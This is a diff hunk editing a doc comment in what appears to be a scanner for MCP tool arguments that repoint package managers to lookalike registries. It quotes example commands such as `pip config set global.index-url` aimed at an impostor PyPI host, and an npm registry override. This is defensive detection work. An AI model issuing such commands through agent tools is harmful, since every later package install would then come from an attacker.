@@ -1,6 +1,6 @@
 /** A package registry repointed to a lookalike of the official one through a tool's arguments (round 48): an MCP
  * docs tool with `registry_override: "https://registry.npmjs-mirror.org/"` or `post_install: "npm config set
- * registry …"`, a setup tool's step `pip config set global.index-url https://pypi-org.pkg-cdn.net/simple`, an
+ * registry ..."`, a setup tool's step `pip config set global.index-url https://pypi-org.pkg-cdn.net/simple`, an
  * `extra_index_url`, an `npmrc` text. The host wears the official registry's name (`npmjs`, `yarnpkg`, `pypi`,
  * `pythonhosted`, `rubygems`, `crates`, `nuget`, `packagist`) without being it, so every later install comes from
  * whoever holds it. Commands that set a registry were judged already (`config_files.ts`); this reads the arguments
